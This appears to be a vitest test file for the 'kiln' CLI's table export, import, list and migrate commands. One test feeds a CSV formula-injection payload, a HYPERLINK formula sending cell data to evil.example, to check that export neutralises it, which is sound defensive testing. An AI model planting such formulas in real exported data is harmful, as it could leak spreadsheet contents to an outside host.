import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, describe, expect, it, vi } from "vitest";
import { builtInTables } from "../../src/app/built-in-tables.ts";
import { main } from "../../src/cli/main.ts";
import { BlobMedia, type Row } from "../../src/index.ts";
import { parseCsv } from "../../src/tables/csv.ts";
import { openTables, type TablesService } from "../../src/tables/index.ts";
import { type Finished, runKiln } from "../cli/run-kiln.ts";
import { type TestDatabase, testDialects } from "../support/dialects.ts";

const YAML = `name: cli-test
tables:
  tasks:
    title: text
    points: number
    done: bool
    due: date
    at: datetime
    meta: object
    file: media
    owner: link users
    tags: links users
  copy:
    title: text
    points: number
    done: bool
    due: date
    at: datetime
    meta: object
    file: media
    owner: link users
    tags: links users
`;
const SCHEMA = {
  tasks: {
    title: "text",
    points: "number",
    done: "bool",
    due: "date",
    at: "datetime",
    meta: "object",
    file: "media",
    owner: "link users",
    tags: "links users",
  },
};

const cleanups: (() => Promise<void>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

for (const dialect of await testDialects()) {
  describe(`${dialect.name}: kiln tables`, () => {
    async function appFolder() {
      const database = await dialect.freshDatabase();
      const dir = mkdtempSync(join(tmpdir(), "kiln-tables-cli-"));
      writeFileSync(join(dir, "kiln.yaml"), YAML);
      cleanups.push(async () => {
        rmSync(dir, { recursive: true, force: true });
        await database.cleanup();
      });
      const args = (list: string[]) => [...list, "--app", dir, "--data", database.dataDir];
      /** The real CLI, in a process of its own (slow: use for what needs it). */
      const spawned = (...list: string[]) =>
        runKiln(args(list), {
          env: database.databaseUrl ? { DATABASE_URL: database.databaseUrl } : {},
          timeoutMs: 60_000,
        });
      /** The same commands through main(), in this process. */
      const kiln = (...list: string[]) => inProcess(args(list), database.databaseUrl);
      const open = () => openService(database, { ...SCHEMA, copy: SCHEMA.tasks });
      return { dir, database, kiln, spawned, open };
    }

    it("export writes CSV with a header; import reads it back into equal rows", async () => {
      const { dir, kiln, spawned, open } = await appFolder();
      let service = await open();
      const ada = await service.tables.users.addRow({ email: "ada@example.com" });
      const bob = await service.tables.users.addRow({ email: "bob@example.com" });
      await service.tables.tasks.addRow({
        title: 'Say "hi", then\nleave',
        points: 1.5,
        done: true,
        due: "2025-01-31",
        at: new Date("2025-01-02T03:04:05.678Z"),
        meta: { a: [1, "x"] },
        file: new BlobMedia("image/png", new Uint8Array([0, 1, 255]), "dot.png"),
        owner: ada,
        tags: [bob, ada],
      });
      await service.tables.tasks.addRow({ title: "" });
      await service.tables.tasks.addRow({});
      await service.close();

      const exported = await spawned("tables", "export", "tasks");
      expect(exported.code, exported.stderr).toBe(0);
      expect(exported.stdout.split("\n")[0]).toBe(
        "id,title,points,done,due,at,meta,file,owner,tags",
      );
      expect(exported.stdout).toContain('"Say ""hi"", then\nleave"');
      const file = join(dir, "tasks.csv");
      expect((await kiln("tables", "export", "tasks", "--out", file)).code).toBe(0);
      expect(readFileSync(file, "utf8")).toBe(exported.stdout);

      const imported = await kiln("tables", "import", "copy", file);
      expect(imported.code, imported.stderr).toBe(0);
      expect(imported.stderr).toContain("added 3 rows to copy");
      service = await open();
      const original = await service.tables.tasks.search().toArray();
      const copied = await service.tables.copy.search().toArray();
      const comparable = (row: Row) => {
        const { id: _, ...fields } = row.toJSON();
        return {
          ...fields,
          bytes: (row.file as BlobMedia | null)?.getBytes().toString("hex") ?? null,
        };
      };
      expect(copied.map(comparable)).toEqual(original.map(comparable));
      expect((copied[0]!.owner as Row).email).toBe("ada@example.com");
      await service.close();
    });

    it("export neutralises text a spreadsheet would run (--raw opts out); import undoes it", async () => {
      const { dir, kiln, open } = await appFolder();
      const titles = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "'=already quoted",
        "'plain",
        "plain",
      ];
      let service = await open();
      for (const title of titles) await service.tables.tasks.addRow({ title, points: -3 });
      const viaApi = (await service.tables.tasks.toCsv()).getText();
      const rawViaApi = (await service.tables.tasks.toCsv({ raw: true })).getText();
      await service.close();

      const file = join(dir, "tasks.csv");
      expect((await kiln("tables", "export", "tasks", "--out", file)).code).toBe(0);
      const csv = readFileSync(file, "utf8");
      expect(csv).toBe(viaApi);
      // Every title cell starts with a ' or a letter: nothing a spreadsheet runs.
      const cells: string[] = [];
      const chunks = (async function* () {
        yield csv;
      })();
      for await (const record of parseCsv(chunks)) cells.push(record.cells[1]!.text);
      expect(cells.slice(1)).toEqual([
        `'${titles[0]}`,
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1",
        "'\r=1",
        "''=already quoted",
        "'plain",
        "plain",
      ]);
      expect(csv).toContain(",-3,"); // numbers are numbers: never prefixed

      const rawFile = join(dir, "raw.csv");
      expect((await kiln("tables", "export", "tasks", "--raw", "--out", rawFile)).code).toBe(0);
      expect(readFileSync(rawFile, "utf8")).toBe(rawViaApi);
      expect(rawViaApi).toContain('"=HYPERLINK(');

      const titlesOf = async () => {
        service = await open();
        const rows = await service.tables.copy.search().toArray();
        await service.tables.copy.deleteAllRows();
        await service.close();
        return rows.map((row) => row.title);
      };
      expect((await kiln("tables", "import", "copy", file)).code).toBe(0);
      expect(await titlesOf()).toEqual(titles);
      expect((await kiln("tables", "import", "copy", rawFile, "--raw")).code).toBe(0);
      expect(await titlesOf()).toEqual(titles);
      expect((await kiln("tables", "import", "copy", file, "--raw")).code).toBe(0);
      expect((await titlesOf())[0]).toBe(`'${titles[0]}`);
    });

    it("list, show, --help and exit codes", async () => {
      const { kiln, open } = await appFolder();
      const service = await open();
      for (let i = 0; i < 3; i++) await service.tables.tasks.addRow({ title: `task ${i}` });
      await service.close();
      const list = await kiln("tables", "list");
      expect(list.code).toBe(0);
      expect(list.stdout).toMatch(/tasks\s+3\s+title text, points number/);
      expect(list.stdout).toMatch(/users\s+0\s+email text/);
      const show = await kiln("tables", "show", "tasks", "--limit", "2");
      expect(show.code).toBe(0);
      expect(show.stdout).toContain("task 1");
      expect(show.stdout).not.toContain("task 2");
      expect(show.stdout).toContain("(2 of 3 rows");
      expect((await kiln("tables", "show", "nope")).code).toBe(1);
      expect((await kiln("tables", "show")).code).toBe(2);
      expect((await kiln("tables", "list", "--apply")).code).toBe(2);
      const help = await inProcess(["tables", "--help"]);
      expect([help.code, help.stdout.includes("migrate [--apply]")]).toEqual([0, true]);
    });

    it("export refuses --csv and unknown options with a usage error instead of ignoring them", async () => {
      const { dir, spawned, kiln } = await appFolder();
      const out = join(dir, "out.csv");
      const csv = await spawned("tables", "export", "tasks", "--csv", "--out", out);
      expect(csv.code).toBe(2);
      expect(csv.stderr).toContain("--csv is not an option: export always writes CSV");
      expect(existsSync(out)).toBe(false);
      const unknown = await kiln("tables", "export", "tasks", "--json");
      expect(unknown.code).toBe(2);
      expect(unknown.stderr).toContain("--json");
      const help = await inProcess(["tables", "export", "--help"]);
      expect(help.code).toBe(0);
      expect(help.stdout).toContain("export NAME [--out FILE] [--raw]");
      expect(help.stdout).not.toContain("--csv");
    });

    it("a bad CSV line fails the import with its line number, and adds nothing", async () => {
      const { dir, kiln, open } = await appFolder();
      const file = join(dir, "bad.csv");
      writeFileSync(file, "title,points\nok,1\nalso ok,2\nbad,many\n");
      const result = await kiln("tables", "import", "tasks", file);
      expect(result.code).toBe(1);
      expect(result.stderr).toContain("line 4");
      expect(result.stderr).toContain("points");
      writeFileSync(file, "title,nope\nx,1\n");
      expect((await kiln("tables", "import", "tasks", file)).stderr).toContain('no column "nope"');
      const service = await open();
      expect(await service.tables.tasks.search().count()).toBe(0);
      await service.close();
    });

    it("an import refuses links to rows that do not exist, naming line and column, and adds nothing", async () => {
      const { dir, kiln, open } = await appFolder();
      let service = await open();
      const ada = await service.tables.users.addRow({ email: "ada@example.com" });
      await service.close();
      const tableId = JSON.parse(ada.id)[0] as number;
      const ghost = `[${tableId},999999]`;
      const file = join(dir, "links.csv");
      const csv = (rows: string[][]) =>
        writeFileSync(
          file,
          `title,owner,tags\n${rows.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(",")).join("\n")}\n`,
        );
      csv([
        ["fine", ada.id, JSON.stringify([ada.id])],
        ["dangling owner", ghost, "[]"],
      ]);
      const owner = await kiln("tables", "import", "tasks", file);
      expect(owner.code).toBe(1);
      expect(owner.stderr).toContain(
        `CSV line 3: owner links to ${ghost}, but users has no such row`,
      );
      csv([
        ["fine", ada.id, JSON.stringify([ada.id])],
        ["also fine", "", "[]"],
        ["dangling tag", ada.id, JSON.stringify([ada.id, ghost])],
      ]);
      const tags = await kiln("tables", "import", "tasks", file);
      expect(tags.code).toBe(1);
      expect(tags.stderr).toContain(
        `CSV line 4: tags links to ${ghost}, but users has no such row`,
      );
      service = await open();
      expect(await service.tables.tasks.search().count()).toBe(0);
      await service.close();
      csv([["fine", ada.id, JSON.stringify([ada.id])]]);
      expect((await kiln("tables", "import", "tasks", file)).code).toBe(0);
    });

    it("a large import reports progress on standard error", async () => {
      const { dir, kiln, open } = await appFolder();
      const file = join(dir, "big.csv");
      const lines = ["title,points"];
      for (let i = 0; i < 12_000; i++) lines.push(`row ${i},${i}`);
      writeFileSync(file, `${lines.join("\n")}\n`);
      const result = await kiln("tables", "import", "tasks", file);
      expect(result.code, result.stderr).toBe(0);
      expect(result.stderr).toContain("10000 rows so far");
      const service = await open();
      expect(await service.tables.tasks.search().count()).toBe(12_000);
      await service.close();
    });

    it("migrate shows destructive changes and --apply makes them", async () => {
      const { dir, kiln, open } = await appFolder();
      const service = await open();
      await service.tables.tasks.addRow({ title: "t", points: 3 });
      await service.close();
      writeFileSync(
        join(dir, "kiln.yaml"),
        YAML.replace("    points: number\n", "    points: text\n").replace("    done: bool\n", ""),
      );
      const plan = await kiln("tables", "migrate");
      expect(plan.code).toBe(0);
      expect(plan.stdout).toContain("pending: convert column tasks.points from number to text");
      expect(plan.stdout).toContain("pending: drop column tasks.done");
      const apply = await kiln("tables", "migrate", "--apply");
      expect(apply.stdout).toContain("done: drop column tasks.done");
      expect((await kiln("tables", "migrate")).stdout).toContain("matches kiln.yaml");
      expect((await kiln("tables", "export", "tasks")).stdout).toContain("t,3,");
    });
  });
}

/** Runs `kiln ...args` through main() here, capturing what it prints. */
async function inProcess(args: string[], databaseUrl?: string): Promise<Finished> {
  let stdout = "";
  let stderr = "";
  const log = vi.spyOn(console, "log").mockImplementation((...parts: unknown[]) => {
    stdout += `${parts.join(" ")}\n`;
  });
  const error = vi.spyOn(console, "error").mockImplementation((...parts: unknown[]) => {
    stderr += `${parts.join(" ")}\n`;
  });
  const write = vi
    .spyOn(process.stdout, "write")
    .mockImplementation((chunk: string | Uint8Array) => {
      stdout += String(chunk);
      return true;
    });
  const before = process.env.DATABASE_URL;
  if (databaseUrl) process.env.DATABASE_URL = databaseUrl;
  try {
    const code = await main(args);
    return { code, stdout, stderr };
  } finally {
    if (before === undefined) delete process.env.DATABASE_URL;
    else process.env.DATABASE_URL = before;
    log.mockRestore();
    error.mockRestore();
    write.mockRestore();
  }
}

function openService(
  database: TestDatabase,
  tables: Record<string, unknown>,
): Promise<TablesService> {
  return openTables({
    dataDir: database.dataDir,
    databaseUrl: database.databaseUrl,
    tables,
    builtIns: builtInTables,
  });
}
